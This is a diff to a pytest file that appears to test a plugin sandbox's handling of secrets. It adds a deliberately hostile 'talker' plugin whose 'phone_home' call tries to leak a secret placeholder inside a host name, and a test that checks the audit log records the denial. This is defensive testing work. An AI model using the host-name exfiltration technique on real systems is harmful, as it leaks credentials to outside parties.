@@ -4,10 +4,21 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Final
+from typing import Any, Final
 
 import pytest
-from tests.real.conftest import ECHO, ECHO_TOOLS, House, birth_of, command_of, common, kill, plugin, until
+from tests.real.conftest import (
+    ECHO,
+    ECHO_TOOLS,
+    HOSTILE,
+    House,
+    birth_of,
+    command_of,
+    common,
+    kill,
+    plugin,
+    until,
+)
 
 pytestmark = pytest.mark.real
 
@@ -17,11 +28,12 @@ TABLES: Final = (
     '[plugins.servers.network_policy]\nallowed_domains = ["api.example.com"]\nintercept_tls = true\n'
     "[plugins.servers.secrets]\n"
 )
+LISTED: Final = TABLES.replace('["api.example.com"]', '["api.example.com", "*.listed.example"]')
 
 
 @pytest.fixture(scope="module")
 def house(walls: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
-    """Three plugins: one without secrets, one with two, one whose secret is not there."""
+    """Plugins without secrets, with two, with ill will, and one whose secret is not there."""
     folder = tmp_path_factory.mktemp("secrets")
     (folder / "token").touch(0o600)
     (folder / "token").write_text(IN_FILE + "\n")
@@ -34,6 +46,12 @@ def house(walls: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hou
         common()
         + plugin("echo", ECHO, operations=ECHO_TOOLS)
         + plugin("keeper", ECHO, operations=ECHO_TOOLS, more=TABLES + keeper)
+        + plugin(
+            "talker",
+            HOSTILE,
+            operations=["phone_home", "echo"],
+            more=LISTED + keeper.replace("FIRST", "OTHER"),
+        )
         + plugin("broken", ECHO, operations=ECHO_TOOLS, more=TABLES + broken)
     )
     with pytest.MonkeyPatch.context() as patch:
@@ -91,6 +109,24 @@ def test_the_values_are_in_no_sandbox_no_command_line_and_no_file(house: House) 
     for path in [house.stderr, *house.home.rglob("*")]:
         if path.is_file():
             assert not any(value in path.read_bytes() for value in values), path
+
+
+@pytest.mark.threat("T-SECRET")
+def test_a_placeholder_sent_elsewhere_stands_in_the_audit_log(house: House) -> None:
+    until(lambda: house.answers("talker__echo", text="a"), "the plugin answers")
+    name = "sekisho-secret-" + "abcdefgh" * 4 + ".listed.example"
+    house.call("talker__phone_home", host="harmless.listed.example", port=443)
+    assert not secret_denials(house)
+    house.call("talker__phone_home", host=name, port=443)
+    until(lambda: bool(secret_denials(house)), "the denial is recorded")
+    denial = secret_denials(house)[0]
+    assert (denial["plugin"], denial["rule"]) == ("talker", "secrets")
+    assert denial["reason"] == "a placeholder stands in a host name"
+
+
+def secret_denials(house: House) -> list[dict[str, Any]]:
+    """What the audit log knows of placeholders that went astray."""
+    return [one for one in house.records() if one.get("name") == "plugin_denied" and one["wall"] == "secret"]
 
 
 @pytest.mark.threat("T-SECRET")
